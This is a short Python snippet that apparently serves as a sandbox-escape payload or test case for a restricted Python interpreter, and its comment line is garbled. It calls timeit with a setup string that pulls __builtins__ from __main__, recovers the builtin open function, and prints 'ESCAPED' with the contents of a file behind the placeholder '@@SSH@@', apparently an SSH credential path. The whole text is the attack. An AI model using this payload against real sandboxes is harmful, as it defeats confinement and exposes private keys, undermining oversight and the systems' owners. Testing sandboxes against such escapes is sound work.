# Names of the session by an import that is dropped.
import timeit
timeit.timeit("print('ESCAPED', (getattr(b, 'open', None) or b['open'])('@@SSH@@').read())", "from __main__ import __builtins__ as b", number=1)
